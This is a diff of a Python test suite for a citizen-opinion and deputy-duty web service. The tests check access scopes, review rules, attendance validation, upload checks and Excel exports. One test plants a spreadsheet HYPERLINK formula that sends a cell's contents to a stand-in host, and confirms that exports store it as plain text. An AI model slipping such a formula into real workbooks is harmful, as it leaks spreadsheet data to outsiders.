@@ -10,9 +10,17 @@ import uuid
 
 import openpyxl
 
-from test_api_support import at, cheap_passwords, hub, iso  # noqa: F401
+from test_api_support import at, cheap_passwords, api_hub, iso, session_body  # noqa: F401
 
-PNG = b"\x89PNG\r\n\x1a\n" + b"\x00" * 64
+def _png() -> bytes:
+    from PIL import Image
+
+    out = io.BytesIO()
+    Image.new("RGB", (32, 24), (200, 60, 40)).save(out, "PNG")
+    return out.getvalue()
+
+
+PNG = _png()
 
 
 def opinion_body(**kw):
@@ -41,7 +49,7 @@ async def test_capture_retry_returns_the_same_opinion(hub):
     status, err = await hub.call("POST", "/opinions", "op-xucun", json=opinion_body(station="changan"))
     assert status == 403
     status, err = await hub.call("POST", "/opinions", "op-xucun", json=opinion_body(category="99"))
-    assert status == 400 and "category" in err["error"]["message"]
+    assert status == 400 and err["error"]["reason"] == "category_unknown" and "民情类别" in err["error"]["message"]
 
 
 async def test_handling_illegal_step_is_409_with_the_reason(hub):
@@ -55,7 +63,7 @@ async def test_handling_illegal_step_is_409_with_the_reason(hub):
     assert status == 409 and err["error"]["code"] == "opinion_transition_refused"
     assert "cannot answer an opinion that is submitted" in err["error"]["message"]
     status, err = await hub.call("POST", f"/opinions/{oid}/actions", "hn", json={"action": "reject"})
-    assert status == 400 and "reason" in err["error"]["message"]
+    assert status == 400 and err["error"]["reason"] == "note_required" and "需要填写理由" in err["error"]["message"]
     await hub.ok("POST", f"/opinions/{oid}/actions", "hn", json={"action": "accept"})
     assigned = await hub.ok("POST", f"/opinions/{oid}/actions", "hn",
                             json={"action": "assign", "level": "town", "department": "xucun-office", "note": "请处理"})
@@ -80,7 +88,7 @@ async def test_handling_illegal_step_is_409_with_the_reason(hub):
     assert [e["action"] for e in done["timeline"]] == ["submit", "accept", "assign", "start", "answer", "feed_back",
                                                        "rate", "close"]
     status, err = await hub.call("POST", f"/opinions/{oid}/actions", "hn", json={"action": "close"})
-    assert status == 409 and "closed" in err["error"]["message"]
+    assert status == 409 and err["error"]["reason"] == "opinion_final" and "已办结" in err["error"]["message"]
     # the deputy's duty records: raised + resolved
     records = await hub.ok("GET", "/duty/records", "hn", params={"deputyId": deputy})
     assert sorted(r["kind"] for r in records["items"]) == ["opinion_raised", "opinion_resolved"]
@@ -96,6 +104,10 @@ async def test_photos(hub):
     async with hub.http.put(f"{hub.url}/opinions/{oid}/photos/1", data=b"not an image",
                             headers={"Authorization": f"Bearer {token}", "Content-Type": "image/png"}) as r:
         assert r.status == 400
+    # the magic bytes alone are not a photo any more (store/photos.py)
+    async with hub.http.put(f"{hub.url}/opinions/{oid}/photos/1", data=b"RIFF\x00\x00\x00\x00<html></html>",
+                            headers={"Authorization": f"Bearer {token}", "Content-Type": "image/webp"}) as r:
+        assert r.status == 400 and (await r.json())["error"]["code"] == "invalid_payload"
     status, body = await hub.call("GET", f"/opinions/{oid}/photos/0", "hn")
     assert status == 200 and body == PNG and put["size"] == len(PNG)
     detail = await hub.ok("GET", f"/opinions/{oid}", "op-xucun")
@@ -151,16 +163,25 @@ async def test_duty_records_review_and_the_ledger_workbook(hub):
         "deputyId": deputy, "kind": "station_reception", "occasion": "reception:2025-03-01",
         "occurredAt": iso(at(3, 1, 9))})
     assert made["status"] == "pending" and made["points"] == 2 and made["kindName"] == "进站接待选民"
+    assert made["createdBy"] == hub.ids["hn"]
     status, err = await hub.call("POST", f"/duty/records/{made['id']}/review", "hn", json={"approve": False})
     assert status == 400
-    reviewed = await hub.ok("POST", f"/duty/records/{made['id']}/review", "hn", json={"approve": True})
-    assert reviewed["status"] == "approved"
+    # a dispatcher never approves a record it entered itself (issue 8); another dispatcher in scope does
     status, err = await hub.call("POST", f"/duty/records/{made['id']}/review", "hn", json={"approve": True})
+    assert status == 403 and err["error"]["code"] == "forbidden"
+    reviewed = await hub.ok("POST", f"/duty/records/{made['id']}/review", "jx", json={"approve": True})
+    assert reviewed["status"] == "approved"
+    status, err = await hub.call("POST", f"/duty/records/{made['id']}/review", "jx", json={"approve": True})
     assert status == 409 and err["error"]["code"] == "duty_review_refused"
+    sid = (await hub.ok("POST", "/sessions", "hn", expect=201, json=session_body()))["id"]
+    hub.clock.now = at(3, 7, 17)  # after the session
     added = await hub.ok("POST", "/duty/attendance", "hn", json={
-        "sessionId": 1, "occurrenceStart": iso(at(3, 1, 8)),
-        "stays": [{"deputyId": deputy, "joinedAt": iso(at(3, 1, 8)), "minutes": 60}]})
+        "sessionId": sid, "occurrenceStart": iso(at(3, 7, 14)),
+        "stays": [{"deputyId": deputy, "joinedAt": iso(at(3, 7, 14)), "minutes": 60}]})
     assert added["added"] == 1
+    joined = (await hub.ok("GET", "/duty/records", "hn", params={"kind": "session_joined"}))["items"][0]
+    assert joined["status"] == "pending" and joined["manual"]
+    await hub.ok("POST", f"/duty/records/{joined['id']}/review", "admin", json={"approve": True})
     status, _ = await hub.call("POST", "/duty/records", "op-xucun", json={
         "deputyId": deputy, "kind": "inspection", "occasion": "x", "occurredAt": iso(at(3, 1, 9))})
     assert status == 403
@@ -174,6 +195,147 @@ async def test_duty_records_review_and_the_ledger_workbook(hub):
     rows = list(wb["代表-代表"].iter_rows(min_row=3, values_only=True))
     assert rows[0][:5] == ("许村代表", 1, 2, 3, 0)
     assert list(wb["代表-全市"].iter_rows(min_row=3, values_only=True))[0][3] == 3
+
+
+async def test_attendance_by_hand_needs_scope_a_real_past_occurrence_and_waits_for_review(hub):
+    """issue 8 (item 1, review HIGH-1): a Xucun dispatcher gave approved
+    attendance points to a Chang'an deputy, for a session that did not
+    exist, once per invented date."""
+    from test_api_support import PASSWORD
+    xucun, changan = hub.deputies["许村代表"], hub.deputies["长安代表"]
+    await hub.ok("POST", "/accounts", "admin", expect=201,
+                 json={"username": "disp-xucun", "password": PASSWORD, "role": "dispatcher", "station": "xucun"})
+    linked = (await hub.ok("POST", "/sessions", "hn", expect=201, json=session_body()))["id"]  # Xucun + Chang'an
+    own = (await hub.ok("POST", "/sessions", "hn", expect=201, json=session_body(
+        title="许村与荣星", chair="xucun", stations=["xucun-rongxing"], start=iso(at(3, 7, 10)),
+        end=iso(at(3, 7, 12)))))["id"]
+    hub.clock.now = at(3, 7, 17)
+
+    def body(session, *deputies, start=None, joined=None, minutes=60):
+        start = start or (at(3, 7, 10) if session == own else at(3, 7, 14))
+        joined = joined or start
+        return {"sessionId": session, "occurrenceStart": iso(start),
+                "stays": [{"deputyId": d, "joinedAt": iso(joined), "minutes": minutes} for d in deputies]}
+
+    async def refused(who, payload, status, code):
+        got, err = await hub.call("POST", "/duty/attendance", who, json=payload)
+        assert (got, err["error"]["code"]) == (status, code), err
+
+    await refused("disp-xucun", body(999999, xucun), 404, "session_not_found")
+    await refused("disp-xucun", body(own, changan), 403, "forbidden")  # the deputy lies outside its scope
+    await refused("disp-xucun", body(linked, xucun), 403, "forbidden")  # it does not control the session
+    await refused("hn", body(linked, xucun, start=at(3, 8, 14)), 404, "occurrence_not_found")  # an invented one
+    await refused("hn", body(linked, xucun, joined=at(3, 6, 14)), 400, "invalid_payload")  # a stay outside it
+    await refused("hn", body(linked, xucun, minutes=600), 400, "invalid_payload")  # longer than it lasted
+    await refused("op-xucun", body(own, xucun), 403, "forbidden")
+    hub.clock.now = at(3, 7, 15)
+    await refused("hn", body(linked, xucun), 400, "invalid_payload")  # not over yet
+    hub.clock.now = at(3, 7, 17)
+
+    assert (await hub.ok("POST", "/duty/attendance", "disp-xucun", json=body(own, xucun)))["added"] == 1
+    assert (await hub.ok("POST", "/duty/attendance", "hn", json=body(linked, xucun, changan)))["added"] == 2
+    assert (await hub.ok("POST", "/duty/attendance", "hn", json=body(linked, xucun, changan)))["added"] == 0
+    records = (await hub.ok("GET", "/duty/records", "hn", params={"kind": "session_joined"}))["items"]
+    assert len(records) == 3 and {(r["status"], r["manual"]) for r in records} == {("pending", True)}
+    period = {"from": iso(at(3, 1, 0)), "to": iso(at(4, 1, 0))}
+    ledger = await hub.ok("GET", "/duty/ledger", "hn", params={**period, "by": "city"})
+    assert (ledger["items"][0]["points"], ledger["items"][0]["pending"]) == (0, 3)  # nothing counts before review
+    mine = next(r for r in records if r["deputyId"] == xucun and r["occasion"].startswith(f"session:{own}@"))
+    status, _ = await hub.call("POST", f"/duty/records/{mine['id']}/review", "disp-xucun", json={"approve": True})
+    assert status == 403  # its own entry
+    await hub.ok("POST", f"/duty/records/{mine['id']}/review", "hn", json={"approve": True})
+
+
+async def test_capture_credits_only_an_active_deputy_of_the_callers_scope(hub):
+    """issue 8 (item 3, review MEDIUM-1)."""
+    xucun, changan, jiaxing = (hub.deputies[n] for n in ("许村代表", "长安代表", "嘉兴代表"))
+
+    def by(deputy, **kw):
+        return opinion_body(deputyId=deputy, residentName="", residentContact="", **kw)
+
+    status, err = await hub.call("POST", "/opinions", "op-xucun", json=by(changan))
+    assert status == 403 and err["error"]["code"] == "forbidden"  # another town's deputy
+    status, _ = await hub.call("POST", "/opinions", "hn", json=by(jiaxing))
+    assert status == 403  # above the dispatcher's subtree
+    await hub.ok("POST", "/opinions", "op-xucun", expect=201, json=by(xucun))
+    await hub.ok("POST", "/opinions", "hn", expect=201, json=by(changan, station="changan"))
+    await hub.ok("POST", f"/deputies/{changan}/deactivate", "hn")
+    status, err = await hub.call("POST", "/opinions", "hn", json=by(changan, station="changan"))
+    assert status == 400 and err["error"]["code"] == "invalid_payload"  # deactivated
+    raised = await hub.ok("GET", "/duty/records", "admin", params={"kind": "opinion_raised"})
+    assert sorted(r["deputyId"] for r in raised["items"]) == sorted([xucun, changan])
+
+
+async def test_a_capture_names_a_session_the_caller_sees_and_its_station_is_part_of(hub):
+    """issue 8 (item 4, review MEDIUM-2), with LOW-5 (a cancelled session's
+    link captures no more) and LOW-6 (a session's opinions need sight of
+    the session)."""
+    from hub import tokens
+    from test_api_support import SECRET
+    linked = (await hub.ok("POST", "/sessions", "hn", expect=201, json=session_body()))["id"]  # Xucun + Chang'an
+    other = (await hub.ok("POST", "/sessions", "hn", expect=201, json=session_body(
+        stations=["changan", "dingqiao"], start=iso(at(3, 8, 14)), end=iso(at(3, 8, 16)))))["id"]
+
+    async def capture(who, **kw):
+        status, body = await hub.call("POST", "/opinions", who, json=opinion_body(**kw))
+        return status, body["error"]["code"] if status >= 400 else body
+
+    assert await capture("op-xucun", sessionId=999999) == (404, "session_not_found")
+    assert await capture("op-xucun", sessionId=other) == (403, "forbidden")  # Xucun does not see it
+    assert await capture("hn", station="yanguan", sessionId=linked) == (403, "forbidden")  # not one of its stations
+    status, made = await capture("op-xucun", sessionId=linked)
+    assert status == 201 and made["sessionId"] == linked
+    link = {"Authorization": "Bearer " + tokens.sign(SECRET, str(linked), "station:changan", "station", 600)}
+
+    async def by_link(**kw):
+        async with hub.http.post(f"{hub.url}/opinions", json=opinion_body(station="changan", **kw), headers=link) as r:
+            return r.status
+
+    assert await by_link(sessionId=other) == 403  # Chang'an is in it, but the link is for another session
+    assert await by_link(sessionId=linked) == 201
+
+    status, err = await hub.call("GET", f"/sessions/{other}/opinions", "op-xucun")
+    assert status == 403 and err["error"]["code"] == "forbidden"
+    assert [o["id"] for o in (await hub.ok("GET", f"/sessions/{linked}/opinions", "op-xucun"))["items"]] in ([], [made["id"]])
+
+    await hub.ok("POST", f"/sessions/{linked}/cancel", "hn")
+    assert await by_link(sessionId=linked) == 401  # a cancelled session's link admits nobody
+    assert await by_link() == 401
+
+
+async def test_workbooks_write_what_users_typed_as_text_never_as_a_formula(hub):
+    """issue 8 (item 5, review MEDIUM-3)."""
+    formula = '=HYPERLINK("http://127.0.0.1:9/?leak="&A2,"点击查看详情")'
+    made = await hub.ok("POST", "/opinions", "op-xucun", expect=201, json=opinion_body(summary=formula))
+    await hub.ok("POST", f"/opinions/{made['id']}/actions", "hn", json={"action": "flag", "flag": "hot"})
+    period = {"from": iso(at(3, 1, 0)), "to": iso(at(4, 1, 0))}
+    status, data = await hub.call("GET", "/reports/hot-topics.xlsx", "hn", params=period)
+    assert status == 200
+    cell = openpyxl.load_workbook(io.BytesIO(data))["重点事项"]["G2"]
+    assert (cell.value, cell.data_type, cell.quotePrefix) == (formula, "s", True)
+    assert b"<f>" not in _sheet_xml(data)
+
+    deputy = (await hub.ok("POST", "/deputies", "hn", expect=201, json={
+        "name": "=1+2", "level": "haining", "station": "xucun", "group": "@group"}))["id"]
+    record = await hub.ok("POST", "/duty/records", "hn", expect=201, json={
+        "deputyId": deputy, "kind": "station_reception", "occasion": "reception:2025-03-01",
+        "occurredAt": iso(at(3, 1, 9))})
+    await hub.ok("POST", f"/duty/records/{record['id']}/review", "jx", json={"approve": True})
+    status, data = await hub.call("GET", "/duty/ledger.xlsx", "hn", params=period)
+    assert status == 200
+    wb = openpyxl.load_workbook(io.BytesIO(data))
+    for sheet, value in (("代表-代表", "=1+2"), ("代表-代表小组", "@group")):
+        cell = wb[sheet]["A3"]
+        assert (cell.value, cell.data_type) == (value, "s"), sheet
+    assert b"<f>" not in _sheet_xml(data)
+
+
+def _sheet_xml(data: bytes) -> bytes:
+    """Every worksheet's XML of a workbook, joined."""
+    import zipfile
+
+    with zipfile.ZipFile(io.BytesIO(data)) as z:
+        return b"".join(z.read(n) for n in z.namelist() if n.startswith("xl/worksheets/"))
 
 
 async def test_department_notices_stay_within_the_dispatchers_scope(hub):
@@ -339,3 +501,25 @@ def _sample_news():
         category_name="噪声扰民", request_type="complaint", summary="夜间工地噪声", session_number=3,
         session_offset=125, captured_at=datetime(2026, 11, 27, 14, 3, tzinfo=timezone.utc),
     )
+
+
+async def test_the_console_is_told_when_the_calendar_lacks_a_year(hub, caplog):
+    """The options name the current or next year when the official holidays
+    are missing for it; the hub logs the same at start-up."""
+    from datetime import datetime
+    from zoneinfo import ZoneInfo
+
+    from api.opinions import rules_of
+    from hub.app import warn_of_calendar_gaps
+    from opinions.official import official_years
+
+    last = max(official_years())
+    hub.clock.now = datetime(last - 1, 12, 1, 9, tzinfo=ZoneInfo("Asia/Shanghai"))
+    hub.tokens.clear()  # logins made at the fixture's date have expired by then
+    assert (await hub.ok("GET", "/opinion-options", "hn"))["calendarMissingYears"] == []
+    hub.clock.now = datetime(last, 12, 1, 9, tzinfo=ZoneInfo("Asia/Shanghai"))
+    hub.tokens.clear()
+    assert (await hub.ok("GET", "/opinion-options", "hn"))["calendarMissingYears"] == [last + 1]
+    with caplog.at_level("WARNING", logger="hub"):
+        assert warn_of_calendar_gaps(rules_of(hub.services), hub.clock.now) == [last + 1]
+    assert f"no official holidays for {last + 1}" in caplog.text
